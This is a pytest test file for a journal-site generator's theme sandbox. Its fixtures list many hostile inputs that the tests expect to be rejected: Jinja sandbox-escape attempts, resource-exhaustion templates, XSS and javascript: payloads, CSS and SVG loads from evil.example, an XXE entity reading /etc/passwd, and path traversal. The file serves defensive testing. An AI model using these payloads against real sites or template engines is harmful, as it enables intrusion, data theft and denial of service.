"""Themes that mean harm: nothing of it gets into the site, and each ends with its line."""

from __future__ import annotations

import re
import resource
import time
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.conftest import Journal

PAGE = "theme/templates/about.html"
SITE = "about.html"


@pytest.fixture
def written(journal: Journal) -> Journal:
    """A journal of one entry with links of all kinds."""
    journal.write(
        "entries/2026-03-04.md",
        "---\nmood: 3 -> 6\nstrategies: walking\n---\n## What I took away\n- Rest <script>\n\n"
        "[A book](https://book.example/?a=1&b=2) and [mail](mailto:r@example.org).\n",
    )
    return journal


@contextmanager
def bounded() -> Iterator[None]:
    """At most 1.5 GB more memory: what asks for more raises MemoryError, which is no diagnostic."""
    before = resource.getrlimit(resource.RLIMIT_AS)
    now = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (now + 1_500_000_000, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, before)


# What a template may try: (its text, the code, the line it is said of).
ESCAPES = {
    "class": ("{{ page.__class__ }}", "theme-forbidden", 1),
    "class by key": ("\n{{ page['__class__'] }}", "theme-forbidden", 2),
    "attr filter": ("{{ page|attr('__class__') }}", "theme-forbidden", 1),
    "map of attributes": ("{{ [page]|map(attribute='__class__')|list|length }}", "theme-forbidden", 1),
    "sort by attribute": ("{{ [page, page]|sort(attribute='__class__')|length }}", "theme-forbidden", 1),
    "format": ("{{ '{0.__class__}'.format(page) }}", "theme-forbidden", 1),
    "format map": ("{{ '{a.__class__}'.format_map({'a': page}) }}", "theme-forbidden", 1),
    "format of markup": ("{{ page.frame.title.format }}", "theme-forbidden", 1),
    "percent": ("{{ '%s' % page }}", "theme-forbidden", 1),
    "a method of a view": ("{{ page.__reduce__() }}", "theme-forbidden", 1),
    "the context": ("{{ self.__init__ }}", "theme-forbidden", 1),
    "globals of a macro": ("{% macro m() %}{% endmacro %}{{ m.__globals__ }}", "theme-forbidden", 1),
    "the environment of a macro": ("{% macro m() %}{% endmacro %}{{ m._environment }}", "theme-forbidden", 1),
    "the function of a macro": ("{% macro m() %}{% endmacro %}{{ m._func }}", "theme-forbidden", 1),
    "globals of a global": ("{{ once.__globals__ }}", "theme-forbidden", 1),
    "through a translation": ("{{ _('%(a)s', a=_.__globals__) }}", "theme-forbidden", 1),
    "a closure": ("{{ asset.__self__ }}", "theme-forbidden", 1),
    "the loop": ("{% for a in 'ab' %}{{ loop._iterable }}{% endfor %}", "theme-forbidden", 1),
    "the loop's undefined": ("{% for a in 'ab' %}{{ loop._undefined }}{% endfor %}", "theme-forbidden", 1),
    "a module": ("{% import 'parts.html' as p %}{{ p.__dict__ }}", "theme-forbidden", 1),
    "a module's stream": ("{% import 'parts.html' as p %}{{ p._body_stream }}", "theme-forbidden", 1),
    "super": ("{% extends 'calm/about.html' %}\n{% block main %}{{ super.__init__ }}{% endblock %}", "theme-forbidden", 2),
    "config": ("{{ config }}", "theme-name", 1),
    "cycler": ("{{ cycler }}", "theme-name", 1),
    "lipsum": ("{{ lipsum() }}", "theme-name", 1),
    "range": ("{{ range(1000000000)|length }}", "theme-name", 1),
    "namespace": ("{% set ns = namespace(x=1) %}", "theme-name", 1),
    "namespace set": ("{% set page.x = 1 %}", "theme-forbidden", 1),
    "dict": ("{{ dict(a=1) }}", "theme-name", 1),
    "safe": ("{{ '<script>'|safe }}", "theme-forbidden", 1),
    "autoescape": ("{% autoescape false %}{{ '<script>' }}{% endautoescape %}", "theme-forbidden", 1),
    "an unknown filter": ("{{ 'a'|pprint }}", "theme-forbidden", 1),
    "a filter in a branch": ("{% if false %}{{ 'a'|xmlattr }}{% endif %}", "theme-forbidden", 1),
    "a filter by name": ("{{ ['a']|map('pprint')|join }}", "theme-template-error", 1),
    "a test by name": ("{{ ['a']|select('filter')|join }}", "theme-template-error", 1),
    "an unknown test": ("{{ 'a' is callable }}", "theme-forbidden", 1),
    "a view": ("{{ page }}", "theme-forbidden", 1),
    "a list": ("{{ page.frame.nav }}", "theme-forbidden", 1),
    "a view joined": ("{{ [page]|join }}", "theme-forbidden", 1),
    "calling a text": ("{{ page.frame.title() }}", "theme-forbidden", 1),
    "outside": ("{% include '../../../../etc/passwd' %}", "theme-template-missing", 1),
    "outside from the root": ("{% extends '/etc/passwd' %}", "theme-template-missing", 1),
    "a view as text": ("{{ page|upper }}", "theme-forbidden", 1),
    "a view escaped": ("{{ page|e }}", "theme-forbidden", 1),
    "a function's address": ("{{ asset|title }}", "theme-forbidden", 1),
    "a function's address, translated": ("{{ _('%(a)s', a=asset) }}", "theme-forbidden", 1),
    "a method's address": ("{{ ngettext('%(a)s', '', 1, a='a'.upper) }}", "theme-forbidden", 1),
    "a module as text": ("{% import 'parts.html' as p %}{{ p|trim }}", "theme-forbidden", 1),
    "what is the same by chance": ("{{ page.words is sameas 'a' }}", "theme-forbidden", 1),
    "varargs": ("{% macro m() %}{{ varargs }}{% endmacro %}", "theme-forbidden", 1),
    "star": ("{{ _(*['a']) }}", "theme-forbidden", 1),
}  # fmt: skip

# What would take for ever or all there is.
DOUBLE = "{{% set a0 = 'aaaaaaaaaaaaaaaa' %}}{steps}{{{{ a{last} }}}}"


def doubling(step: str, times: int = 60) -> str:
    """The same done with its own result again and again."""
    steps = "".join(step.replace("NEW", f"a{n + 1}").replace("OLD", f"a{n}") for n in range(times))
    return DOUBLE.format(steps=steps, last=times)


LONG = "{% set a = 'aaaaaaaaaaaaaaaa' %}" + "{% set a = a + a %}" * 15
"""A text of half a million letters."""
MANY = "{% set m = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}"
BOMBS = {
    "times": ("{{ 'a' * 1000000000 }}", "theme-forbidden"),
    "times a list": ("{{ [1] * 1000000000 }}", "theme-forbidden"),
    "a power": ("{{ 9 ** 9 ** 9 }}", "theme-forbidden"),
    "a large number": ("{% set a = 999999999999999 * 999999999999999 %}{{ a * a }}", "theme-forbidden"),
    "a width": ("{{ '%1000000000d' % 1 }}", "theme-forbidden"),
    "a width in a translation": ("{{ _('%(a)1000000000d', a=1)|length }}{{ 'a' * 2 }}", "theme-forbidden"),
    "center": ("{{ 'a'|center(1000000000) }}", "theme-forbidden"),
    "indent": ("{{ 'a'|indent(1000000000, true) }}", "theme-forbidden"),
    "digits": ("{{ 1.5|round(100000000000, 'ceil') }}", "theme-template-error"),
    "plus": (doubling("{% set NEW = OLD + OLD %}"), "theme-too-much"),
    "tilde": (doubling("{% set NEW = OLD ~ OLD %}"), "theme-too-much"),
    "a block that is kept": (doubling("{% set NEW %}{{ OLD }}{{ OLD }}{% endset %}"), "theme-too-much"),
    "a filter block": (doubling("{% set NEW %}{% filter upper %}{{ OLD }}{{ OLD }}{% endfilter %}{% endset %}"), "theme-too-much"),
    "join": (doubling("{% set NEW = [OLD, OLD]|join(OLD) %}"), "theme-too-much"),
    "join with itself": (doubling("{% set NEW = OLD|join(OLD) %}"), "theme-too-much"),
    "lists in lists": ("{% set a0 = [1] %}" + "".join(f"{{% set a{n + 1} = [a{n}, a{n}] %}}" for n in range(60)), "theme-forbidden"),
    "mappings in mappings": ("{% set a0 = {'a': 1} %}" + "".join(f"{{% set a{n + 1} = {{'a': a{n}, 'b': a{n}}} %}}" for n in range(60)), "theme-forbidden"),
    "a translation with itself": (doubling("{% set NEW = _('%(a)s%(a)s', a=OLD) %}"), "theme-too-much"),
    "lists by default": ("".join(f"{{% set {b} = [1] %}}" + f"{{% set {b} = ['', '']|map('default', {b}, true)|list %}}" * 60 for b in "bc") + "{{ b == c }}", "theme-too-much"),
    "mappings by items": ("{% set a = {'a': 1} %}" + "{% set a = {'a': a.items(), 'b': a.items()} %}" * 60, "theme-forbidden"),
    "a text by many names, sorted": (LONG + "{{ [" + "a," * 20000 + "]|sort|length }}", "theme-too-much"),
    "a text by many names, once each": (LONG + "{{ {" + "".join(f"{n}: a," for n in range(9000)) + "}.values()|unique|length }}", "theme-too-much"),
    "letters of a text": (LONG + "{% set a = a + a + a + a %}{{ a|list|sort|length + a|list|unique|length }}", "theme-too-much"),
    "letters at its ends": (LONG + "{{ a.strip(a + 'b') }}", "theme-too-much"),
    "letters at its ends, by a filter": (LONG + "{{ a|trim(a + 'b') }}", "theme-too-much"),
    "a text in a text": (LONG + "{% for b in a %}{% if a is in(a) %}{% endif %}{% endfor %}", "theme-too-much"),
    "the end of a text": (LONG + "{% for b in a %}{% if a.endswith(a) %}{% endif %}{% endfor %}", "theme-too-much"),
    "a large number of a text": (LONG + "{{ ('0x' ~ a)|int(0, 16) / 0 }}", "theme-template-error"),
    "a macro that is long": ("{% macro m() %}" + "{% set a = 1 + 1 %}" * 8000 + "{% endmacro %}" + LONG + "{% for b in a %}{{ m() }}{% endfor %}", "theme-too-much"),
    "a page that is long": (LONG + "{% for b in a %}" + "<b>a</b>" * 7 + "{% endfor %}", "theme-too-much"),
    "links without an end": (LONG + "{% for b in a|truncate(100000) %}<a >{% endfor %}<script>", "theme-page"),
    "macros": ("".join(f"{{% macro a{n + 1}() %}}{{{{ a{n}() }}}}{{{{ a{n}() }}}}{{% endmacro %}}" for n in range(1, 50)).replace("{{ a1() }}", "aaaa") + "{{ a50() }}", "theme-too-much"),
    "a macro that calls itself": ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "theme-too-much"),
    "a macro that calls itself twice": ("{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}", "theme-too-much"),
    "a macro that forgets": ("{% macro m(n) %}{% if n %}{% set a = m(n - 1) %}{% set a = m(n - 1) %}{% endif %}{% endmacro %}{{ m(60) }}", "theme-too-much"),
    "an include of itself": ("{% include 'about.html' %}", "theme-too-much"),
    "an include twice": ("{% set n = (n if n is defined else 60) - 1 %}{% if n %}{% include 'about.html' %}{% include 'about.html' %}{% endif %}", "theme-too-much"),
    "an import of itself": ("{% import 'about.html' as me %}", "theme-too-much"),
    "an extension of itself": ("{% extends 'about.html' %}", "theme-too-much"),
    "loops in loops": (MANY + "{% for a in m %}" * 8 + "a" + "{% endfor %}" * 8, "theme-too-much"),
    "loops in loops by filters": (MANY + "{% for a in m|list|reverse %}" * 8 + "a" + "{% endfor %}" * 8, "theme-too-much"),
    "loops that give nothing": (MANY + "{% for a in m %}" * 8 + "{% if a == 'b' %}{% endif %}" + "{% endfor %}" * 8, "theme-too-much"),
    "a recursive loop": ("{% for a in 'ab' recursive %}{{ loop('ab') }}{% endfor %}", "theme-forbidden"),
    "brackets": ("{{ " + "(" * 20000 + "1" + ")" * 20000 + " }}", "theme-too-much"),
    "a long sum": ("{{ 1" + "+1" * 50000 + " }}", "theme-too-much"),
    "ifs in ifs": ("{% if 1 %}" * 500 + "{% endif %}" * 500, "theme-too-much"),
}  # fmt: skip

# What a page may not hold: (what the template writes, what mustn't be in the site).
HTML = {
    "script": "<script>alert(1)</script>",
    "SCRIPT": "<SCRIPT SRC=https://evil.example/a.js></SCRIPT>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "style": "<style>@import 'https://evil.example'</style>",
    "style attribute": '<p style="background:url(https://evil.example)">a</p>',
    "on click": '<p onclick="alert(1)">a</p>',
    "on load without quotes": "<svg onload=alert(1)>",
    "on error with a slash": '<img/onerror="alert(1)" src="x">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "srcdoc": '<p srcdoc="a">a</p>',
    "object": '<object data="https://evil.example"></object>',
    "embed": '<embed src="https://evil.example">',
    "link": '<link rel="prefetch" href="https://evil.example">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example">',
    "form action": '<form action="https://evil.example"></form>',
    "form action of a button": '<button formaction="https://evil.example">a</button>',
    "image": '<img src="https://evil.example/{{ page.frame.title }}" alt="">',
    "image without scheme": '<img src="//evil.example/a.png" alt="">',
    "image by backslash": '<img src="\\\\evil.example\\a.png" alt="">',
    "image on a drive": '<img src="C|/evil.example" alt="">',
    "a number too long": '<p title="&#' + "1" * 5000 + ';">a</p>',
    "image data": '<img src="data:image/svg+xml,<svg/>" alt="">',
    "image outside": '<img src="../../../../../etc/evil.example" alt="">',
    "image outside, spelt": '<img src="%2e%2e/%2e%2e/evil.example" alt="">',
    "srcset": '<img src="a.png" srcset="https://evil.example" alt="">',
    "poster": '<video poster="https://evil.example"></video>',
    "ping": '<a href="index.html" ping="https://evil.example">a</a>',
    "target": '<a href="index.html" target="evil.example">a</a>',
    "download": '<a href="index.html" download="evil.example">a</a>',
    "javascript": '<a href="javascript:alert(1)">a</a>',
    "javascript, spelt": '<a href="java&#115;cript&colon;alert(1)">a</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">a</a>',
    "javascript with a line": '<a href="java&NewLine;script:alert(1)">a</a>',
    "javascript with a space": '<a href=" javascript:alert(1)">a</a>',
    "data link": '<a href="data:text/html,alert(1)">a</a>',
    "file link": '<a href="file:///etc/passwd">a</a>',
    "a link of its own": '<a href="https://evil.example/?{{ page.frame.title }}">a</a>',
    "a link by a text": '<a href="{{ \'https://evil\' ~ \'.example\' }}">a</a>',
    "xlink": '<svg><use xlink:href="https://evil.example"/></svg>',
    "use": '<svg><use href="https://evil.example#a"/></svg>',
    "svg image": '<svg><image href="https://evil.example"/></svg>',
    "fill": '<svg><path fill="url(https://evil.example)"/></svg>',
    "fill, spelt": '<svg><path fill="\\75rl(https://evil.example)"/></svg>',
    "set": '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "animate": '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "foreign object": "<svg><foreignObject><p>a</p></foreignObject></svg>",
    "math": "<math><mtext><a>a</a></mtext></math>",
    "template": "<template><p>a</p></template>",
    "plaintext": "<plaintext>",
    "textarea": "<textarea></textarea>",
    "comment": "<!-- a -->",
    "condition": "<!--[if IE]><p>evil.example</p><![endif]-->",
    "cdata": "<svg><![CDATA[<script>alert(1)</script>]]></svg>",
    "instruction": "<?php evil.example ?>",
    "doctype": "<!doctype html>",
    "half a tag": '<p title="a',
    "half a tag at the end": "<p",
    "tag in a value": '<p title="<script>alert(1)</script>">a</p>',
    "end of a title in a value": '<svg><p><title><a title="</title><script>alert(1)</script>">a</a></title></p></svg>',
    "end of a noscript in a value": '<noscript><p title="</noscript><script>alert(1)</script>">a</p></noscript>',
    "single quotes": "<p title='a'>a</p>",
    "no quotes": "<p title=a>a</p>",
    "attribute twice after a slash": '<a href="index.html"/onclick="alert(1)">a</a>',
    "unknown element": "<evil-example>a</evil-example>",
    "contenteditable": '<p contenteditable="true">a</p>',
    "second head": "<head></head>",
    "is": '<p is="evil-example">a</p>',
    "slot": '<p slot="a">a</p>',
    "nonce": '<p nonce="a">a</p>',
    "popover": '<p popover="auto">a</p>',
}  # fmt: skip


@pytest.mark.parametrize("name", ESCAPES)
def test_a_template_reaches_nothing_but_views(written: Journal, name: str) -> None:
    text, code, line = ESCAPES[name]
    written.write(PAGE, text)
    built = written.check()
    assert built.code == 2
    (found,) = built.report["diagnostics"]
    assert (found["code"], found["path"], found["line"]) == (code, PAGE, line), found
    assert not written.site.exists()


@pytest.mark.parametrize("name", BOMBS)
def test_a_template_ends_in_time(written: Journal, name: str) -> None:
    text, code = BOMBS[name]
    written.write(PAGE, text)
    began = time.process_time()
    with bounded():
        built = written.check("--jobs", "1")
    assert built.codes == [code], built.report["diagnostics"]
    assert built.code == 2
    assert time.process_time() - began < 120  # for ever would be longer


# The same with a second template, `other.html`: (the page's, the other).
SPREAD_OUT = {
    "data": ("{% include 'other.html' %}" * 9000, "a" * 250_000),
    "steps": ("{% include 'other.html' %}" * 9000, "{% set a = 1 + 1 %}" * 8000),
    "a block": ("{% extends 'other.html' %}{% block b %}" + "{% set a = 1 + 1 %}" * 8000 + "{% endblock %}",
                LONG + "{% for c in a %}{% block b %}{% endblock %}{% endfor %}"),
}  # fmt: skip


@pytest.mark.parametrize("name", SPREAD_OUT)
def test_templates_together_end_in_time(written: Journal, name: str) -> None:
    text, other = SPREAD_OUT[name]
    written.write(PAGE, text)
    written.write("theme/templates/other.html", other)
    with bounded():
        assert written.check("--jobs", "1").codes == ["theme-too-much"]


def test_a_page_tells_of_so_much_at_once(written: Journal) -> None:
    """A hundred thousand attributes, each of a name of its own."""
    written.write(PAGE, LONG + "{% for b in a|truncate(100000) %}<b x{{ loop.index }}>{% endfor %}")
    built = written.check()
    assert set(built.codes) == {"theme-page"}
    assert len(built.codes) == 20


def test_nothing_is_used_up_by_a_page_before(journal: Journal) -> None:
    """What a template of parts holds is the same for each page, in whatever order they come."""
    for day in range(1, 5):
        journal.write(f"entries/2026-01-0{day}.md", "A day.")
    journal.write("theme/templates/mine.html", "{% set letters = 'abcdef'|map('upper') %}")
    journal.write(
        "theme/templates/entry.html", "{% import 'mine.html' as m %}<p>{{ m.letters|first }}</p>"
    )
    assert journal.check("--jobs", "1").codes == []
    for day in range(1, 5):
        assert "<p>A</p>" in journal.page(f"entries/2026-01-0{day}.html")


@pytest.mark.parametrize("name", HTML)
def test_a_page_holds_only_what_is_listed(written: Journal, name: str) -> None:
    text = HTML[name]
    written.write(
        PAGE,
        "{% extends 'calm/about.html' %}\n{% block main %}\n" + text + "\n{% endblock %}",
    )
    built = written.check()
    assert built.code == 2, written.page(SITE)
    assert set(built.codes) == {"theme-page"}
    for found in built.report["diagnostics"]:
        assert found["path"] == PAGE
        assert found["line"] in (3, None)
    assert not written.site.exists()


@pytest.mark.parametrize("name", ["script", "on click", "meta", "link", "comment"])
def test_whatever_stands_around_the_body_isnt_used(written: Journal, name: str) -> None:
    """The head is journalgen's own, also where a template doesn't extend base.html."""
    written.build("--no-cache")
    own = written.page(SITE).partition("<body")[0]
    text = f"<html><head>{HTML[name]}</head>\n<body class='a'>"
    written.write(PAGE, text.replace("'", '"') + "<main>Mine</main></body>" + HTML[name])
    assert written.check().code == 0
    page = written.page(SITE)
    assert page.partition("<body")[0] == own
    assert "evil" not in page
    assert "Mine" in written.text(SITE)


class _Tags(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.links: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.links += [value or "" for key, value in attrs if key == "href"]


def test_links_of_the_person_stay(written: Journal) -> None:
    written.write("theme/static/own.css", "p { color: red }")
    assert written.check().codes == []
    links = _Tags(written.page("entries/2026-03-04.html")).links
    assert {"https://book.example/?a=1&b=2", "mailto:r@example.org"} <= set(links)


def test_every_page_keeps_the_ways_out(written: Journal) -> None:
    """Leaving, and the page for hard moments: a theme that forgets them gets them at the top."""
    written.write("theme/templates/base.html", "<main>{% block main %}{% endblock %}</main>")
    assert written.check().codes == []
    page = written.page("entries/2026-03-04.html")
    assert re.search(
        r'<body>\s*<p class="ways"><a class="hard-way" href="../hard-moment.html">', page
    )
    assert re.search(r'<a class="leave"[^>]* href="[^"]+"', page)
    assert page.index('class="ways"') < page.index("<main")
    fake = '<a title=" class=" class="x leave" href="about.html">a</a>'
    written.write(
        "theme/templates/base.html",
        "{% extends 'calm/base.html' %}{% block more %}" + fake + "{% endblock %}",
    )
    assert written.check().codes == []
    page = written.page("entries/2026-03-04.html")
    assert page.index('class="ways"') < page.index("<header")  # what the key follows comes first
    calm = "{% extends 'calm/base.html' %}"
    written.write("theme/templates/base.html", calm)
    written.check()
    assert written.page("entries/2026-03-04.html").count('class="leave"') == 1


def test_nobody_has_a_say_in_the_page_that_stays_behind(written: Journal) -> None:
    written.build()
    name = next(name for name in written.files() if written.page(name).find("assets/blank.js") > 0)
    before = written.page(name)
    written.write("theme/templates/blank.html", "<body>My journal</body>")
    assert written.check().code == 0
    assert written.page(name) == before


# Style sheets: (the text, the code, line, column); an empty code where it is fine.
CSS = {
    "import": ("p {}\n@import 'a.css';", "theme-css", 2, 1),
    "import, spelt": ("@\\69mport 'https://evil.example';", "theme-css", 1, 1),
    "import in capitals": ("@IMPORT url(https://evil.example);", "theme-css", 1, 1),
    "import behind a comment": ("/* a */@import/**/'https://evil.example';", "theme-css", 1, 8),
    "url": ("p { background: url(https://evil.example/a.png) }", "theme-css", 1, 17),
    "url in quotes": ("p { background: url( 'https://evil.example/a.png' ) }", "theme-css", 1, 17),
    "url, spelt": ("p { background: \\75rl(https://evil.example) }", "theme-css", 1, 17),
    "url in capitals": ("p { background: URL(//evil.example) }", "theme-css", 1, 17),
    "url with modifiers": ("p { background: url('own.png' evil()) }", "theme-css", 1, 17),
    "url of a variable": ("p { --a: 'https://evil.example'; background: url(var(--a)) }", "theme-css", 1, 46),
    "url of a file": ("p { background: url(file:///etc/passwd) }", "theme-css", 1, 17),
    "url from the root": ("p { background: url(/etc/passwd) }", "theme-css", 1, 17),
    "url outside": ("p { background: url(../../evil.png) }", "theme-css-file", 1, 17),
    "url with a question": ("p { background: url(own.png?evil.example) }", "theme-css", 1, 17),
    "url that isn't there": ("p { background: url(evil.png) }", "theme-css-file", 1, 17),
    "url of data": ("p { background: url(data:text/html,evil) }", "theme-css", 1, 17),
    "src": ("p { background: src('https://evil.example') }", "theme-css", 1, 17),
    "image": ("p { background: image('https://evil.example') }", "theme-css", 1, 17),
    "image set": ("p { background: image-set('https://evil.example' 1x) }", "theme-css", 1, 17),
    "image set of old": ("p { background: -webkit-image-set(url(own.png) 1x) }", "theme-css", 1, 17),
    "cross fade": ("p { background: cross-fade(url(own.png), 'https://evil.example') }", "theme-css", 1, 17),
    "font": ("@font-face { font-family: a; src: url(https://evil.example/a.woff2) }", "theme-css", 1, 35),
    "namespace": ("@namespace url(https://evil.example);", "theme-css", 1, 1),
    "document": ("@document url(https://evil.example) { p {} }", "theme-css", 1, 1),
    "charset": ("@charset 'utf-7';", "theme-css", 1, 1),
    "expression": ("p { width: expression(alert(1)) }", "theme-css", 1, 12),
    "behaviour": ("p { behavior: url(own.png) }", "theme-css", 1, 5),
    "binding": ("p { -moz-bindin\\67: url(own.png) }", "theme-css", 1, 5),
    "in a media rule": ("@media print { p { background: url(https://evil.example) } }", "theme-css", 1, 32),
    "in a nested rule": ("p { & a { background: url(https://evil.example) } }", "theme-css", 1, 23),
    "in brackets": ("p { --a: [{(url(https://evil.example))}] }", "theme-css", 1, 13),
    "an open string": ("p { content: 'a\n; background: url(own.png) }", "theme-css", 1, 14),
    "a bad url": ("p { background: url(a b) }", "theme-css", 1, 17),
    "an open bracket": ("p { background: rgb(1 }", "theme-css", 1, 23),
    "own file": ("p { background: url(own.png) }", "", 0, 0),
    "own file, in quotes": ("p { background: url('./own.png#a') }", "", 0, 0),
    "a picture in it": ("p { background: url(data:image/png;base64,AAAA) }", "", 0, 0),
    "a comment": ("/* @import url(https://evil.example) */ p { color: red }", "", 0, 0),
    "a string": ("p::before { content: 'url(https://evil.example)' }", "", 0, 0),
    "plain": (":root { --leaf: light-dark(#123, oklch(50% 0.1 20)) } @media (width > 40rem) { p:is(a, b) { inset: calc(1px + 2em) } }", "", 0, 0),
}  # fmt: skip


@pytest.mark.parametrize("name", CSS)
def test_a_style_sheet_loads_nothing(written: Journal, name: str) -> None:
    text, code, line, column = CSS[name]
    written.write("theme/static/own.png", b"\x89PNG")
    written.write("theme/static/own.css", text)
    built = written.check()
    there = (written.site / "assets/own.css").exists()
    assert there == (not code)
    assert ("own.css" in written.page(SITE)) == there
    assert built.code == (1 if code else 0)
    if code:
        first = built.report["diagnostics"][0]
        assert (first["code"], first["path"]) == (code, "theme/static/own.css")
        assert (first["line"], first["column"]) == (line, column)


DRAWINGS: dict[str, str | bytes] = {
    "script": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "script by another name": "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>",
    "on load": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "foreign object": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject/></svg>",
    "image": "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/a.png'/></svg>",
    "xlink": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'><use x:href='a.svg#a'/></svg>",
    "javascript": "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>",
    "style": "<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'https://evil.example'</style></svg>",
    "style by entities": "<svg xmlns='http://www.w3.org/2000/svg'><style>&#64;im&#112;ort 'https://evil.example'</style></svg>",
    "fill": "<svg xmlns='http://www.w3.org/2000/svg'><path fill='url(https://evil.example)'/></svg>",
    "style sheet": "<?xml-stylesheet href='https://evil.example'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "entity": "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>",
    "laughs": "<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]><svg>&b;</svg>",
    "animate": "<svg xmlns='http://www.w3.org/2000/svg'><animate attributeName='href' to='javascript:alert(1)'/></svg>",
    "image set": "<svg xmlns='http://www.w3.org/2000/svg' style='background:image-set(&quot;https://evil.example&quot; 1x)'/>",
    "image set in a style": "<svg xmlns='http://www.w3.org/2000/svg'><style>svg{mask:-webkit-image-set('https://evil.example' 1x)}</style></svg>",
    "style in pieces": "<svg xmlns='http://www.w3.org/2000/svg'><style>@im<g/>port 'https://evil.example'</style></svg>",
    "style with a comment": "<svg xmlns='http://www.w3.org/2000/svg'><style>@im<!-- a -->port 'https://evil.example'</style></svg>",
    "style with a section": "<svg xmlns='http://www.w3.org/2000/svg'><style>@im<![CDATA[port]]> 'https://evil.example'</style></svg>",
    "a page in it": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'><h:img srcset='https://evil.example'/></svg>",
    "a page that goes on": "<html xmlns='http://www.w3.org/1999/xhtml'><meta http-equiv='refresh' content='0;https://evil.example'/></html>",
    "mathematics": "<math xmlns='http://www.w3.org/1998/Math/MathML'/>",
    "style in another alphabet": ("<?xml version='1.0' encoding='utf-16'?><svg xmlns='http://www.w3.org/2000/svg'><style>/*" + "字" * 90_000 + "*/@import 'https://evil.example'</style></svg>").encode("utf-16"),
    "no xml": "<svg><p></svg>",
}  # fmt: skip


@pytest.mark.parametrize("name", DRAWINGS)
def test_a_drawing_runs_and_loads_nothing(written: Journal, name: str) -> None:
    written.write("theme/static/own.svg", DRAWINGS[name])
    built = written.check()
    assert built.codes == ["theme-drawing"]
    assert built.code == 1
    assert not (written.site / "assets/own.svg").exists()


def test_a_plain_drawing_is_copied(written: Journal) -> None:
    plain = "<svg xmlns='http://www.w3.org/2000/svg'><g id='a'><path fill='url(#a)' stroke='url( &quot;#a&quot; )'/></g><title>An image(1) at C:\\a</title><use href='#a'/></svg>"
    written.write("theme/static/own.svg", plain)
    assert written.check().codes == []
    assert (written.site / "assets/own.svg").read_text() == plain


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("a.js", "theme-file-kind"), ("a.mjs", "theme-file-kind"), ("a.html", "theme-file-kind"),
        ("a.htm", "theme-file-kind"), ("a.xml", "theme-file-kind"), ("a.wasm", "theme-file-kind"),
        ("a.css.js", "theme-file-kind"), ("a", "theme-file-kind"), ("a.pdf", "theme-file-kind"),
        ("options.css", "theme-file-name"), ("files/a.css", "theme-file-name"),
        ("a b.png", "theme-file-name"), ("a#.png", "theme-file-name"), ("ä.png", "theme-file-name"),
        ("%41.png", "theme-file-name"), ("Search/a.png", "theme-file-name"),
        ("site.js/a.png", "theme-file-name"), ("look.css/a.png", "theme-file-name"),
        ("LOOK.css", "theme-file-name"), ("con.png", "theme-file-name"), ("a/Aux/b.png", "theme-file-name"),
        ("a" * 100 + ".png", "theme-file-name"), ("a/" * 50 + "a.png", "theme-file-name"),
    ],
)  # fmt: skip
def test_only_what_runs_nothing_is_copied(written: Journal, name: str, code: str) -> None:
    written.write(f"theme/static/{name}", "a {}")
    built = written.check()
    assert built.codes == [code]
    assert built.code == 1
    before = written.files()
    (written.root / "theme/static" / name).unlink()
    written.check()
    assert written.files() == before  # nothing of it was there


VALUES = [
    "red; } body { display: none", "red}", "url(https://evil.example)", "URL (a)", "\\75rl(a)",
    "image-set('a')", "expression(1)", "a /* b", "@import", "'a", '"</style>"', "a:b", "red\\", "(a",
    "var(--a", "env(--a) src(a)",
]  # fmt: skip


@pytest.mark.parametrize("value", VALUES)
def test_an_option_says_one_value_and_no_more(written: Journal, value: str) -> None:
    quoted = value.replace("'", "''")
    written.write("mine/theme.yaml", "api: 1\nextends: calm\noptions:\n  tone:\n    default: a\n"
                  f"    values:\n      a: {{--leaf: '{quoted}'}}\n")  # fmt: skip
    written.write("journal.yaml", "theme: ./mine")
    built = written.check()
    (found,) = built.report["diagnostics"]
    assert (found["code"], found["path"], found["line"]) == ("theme-value", "mine/theme.yaml", 7)
    assert built.code == 2


@pytest.mark.parametrize("name", ["color", "background", "--a;b", "-a", "--A B", "all"])
def test_an_option_sets_custom_properties_only(written: Journal, name: str) -> None:
    written.write("mine/theme.yaml", "api: 1\nextends: calm\noptions:\n  tone:\n    default: a\n"
                  f"    values:\n      a: {{'{name}': red}}\n")  # fmt: skip
    assert written.check("--theme", str(written.root / "mine")).codes == ["theme-property"]
